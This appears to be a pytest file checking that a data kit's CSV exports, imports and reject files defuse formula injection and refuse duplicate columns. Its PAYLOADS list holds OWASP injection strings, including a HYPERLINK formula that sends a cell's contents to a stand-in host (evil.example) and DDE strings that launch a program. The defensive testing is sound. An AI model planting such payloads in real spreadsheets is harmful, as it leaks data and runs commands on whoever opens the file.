"""Issue 11 (store side): attacks on the files the kit writes and reads, each reproduced first.

Item 3 CSV formula injection, item 4 duplicate columns, item 5 file modes, item 9 read-only
stores, item 10 correction / erasure / audit; also rule_set and episodes in the store.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from kit.cli import main
from kit.store import Store

ROOT = Path(__file__).resolve().parents[1]

#: OWASP "CSV Injection" payloads (issue 11 item 3)
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "''+twice", "'plain apostrophe"]
DANGER = ("=", "+", "-", "@", "\t", "\r")


def kit(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "KIT_STORE"}
    return subprocess.run([sys.executable, "-m", "kit", *args], input=stdin, capture_output=True, text=True, cwd=ROOT,
                          env=env, timeout=300)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(text: str) -> None:
    for row in _cells(text):
        for cell in row:
            assert not cell.startswith(DANGER) or _is_number(cell), f"formula cell {cell!r} written unescaped"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _hostile_store(tmp_path: Path) -> Store:
    st = Store(tmp_path / "s.sqlite")
    for i, p in enumerate(PAYLOADS):
        st.save({"athlete_id": p.strip() or f"A{i}", "observed_at": f"2026-05-01T09:{i:02d}:00", "notes": p, "tremor": True,
                 "ambient_temp_c": -4.5})
    return st


# ---- item 3: CSV formula injection -------------------------------------------------------------

def test_log_export_csv_neutralises_formulas_but_keeps_negative_numbers(tmp_path):
    st = _hostile_store(tmp_path)
    text = st.export_text("csv")
    _assert_no_formula(text)
    rows = _cells(text)
    col = rows[0].index("ambient_temp_c")
    assert {r[col] for r in rows[1:]} == {"-4.5"}  # a negative number stays a number
    notes = [r[rows[0].index("notes")] for r in rows[1:]]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in notes and "'\t=1+1" in notes


def test_export_import_export_round_trip_restores_the_original_text_exactly(tmp_path):
    st = _hostile_store(tmp_path)
    first = st.export_text("csv")
    (tmp_path / "e.csv").write_text(first, encoding="utf-8", newline="")
    with Store(tmp_path / "t.sqlite") as st2:
        st2.import_csv(tmp_path / "e.csv")
        assert [o["notes"] for o in st2.observations()] == [o["notes"] for o in st.observations()]
        assert sorted(o["notes"] for o in st2.observations()) == sorted(p.replace("\r", "\n") for p in PAYLOADS)
        assert st2.export_text("csv") == first


def test_score_out_neutralises_formulas(tmp_path):
    st = _hostile_store(tmp_path)
    st.export("csv", tmp_path / "e.csv")
    out = tmp_path / "scored.csv"
    assert main(["score", str(tmp_path / "e.csv"), "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    _assert_no_formula(text)
    assert "'=HYPERLINK" in text
    r = kit("score", str(tmp_path / "e.csv"))  # standard output too
    assert r.returncode == 0, r.stderr
    _assert_no_formula(r.stdout)


def test_reject_file_neutralises_formulas_and_re_imports_the_same_cells(tmp_path):
    src = tmp_path / "team.csv"
    src.write_text('athlete_id,pain_score,notes\n"=1+1",11,"@SUM(A1)"\nB,2,"-x"\n', encoding="utf-8")
    with Store(tmp_path / "s.sqlite") as st:
        report = st.import_csv(src, skip_bad=True)
        rej = report.rejects_path.read_text(encoding="utf-8")
        _assert_no_formula(rej)
        assert "'=1+1" in rej and "'@SUM(A1)" in rej
        fixed = rej.replace(",11,", ",1,")
        report.rejects_path.write_text(fixed, encoding="utf-8")
        st.import_csv(report.rejects_path)
        assert [(o["athlete_id"], o.get("notes")) for o in st.observations()] == [("B", "-x"), ("=1+1", "@SUM(A1)")]


# ---- item 4: duplicate column names ------------------------------------------------------------

def test_a_repeated_column_is_an_error_naming_it_exit_2_and_nothing_stored(tmp_path):
    src = tmp_path / "dup.csv"
    src.write_text("athlete_id,tremor,athlete_id,notes,notes\nATH-01,true,ATH-99,a,b\n", encoding="utf-8")
    store = tmp_path / "s.sqlite"
    r = kit("log", "import", str(src), "--store", str(store))
    assert r.returncode == 2 and r.stdout == "", r
    assert "athlete_id" in r.stderr and "notes" in r.stderr and "more than once" in r.stderr
    assert not store.exists() or Store(store).count() == 0
    r = kit("log", "import", str(src), "--skip-bad", "--store", str(store))  # not a bad row: the whole file is refused
    assert r.returncode == 2 and (not store.exists() or Store(store).count() == 0)
    r = kit("score", str(src))
    assert r.returncode == 2 and r.stdout == "" and "athlete_id" in r.stderr and "more than once" in r.stderr
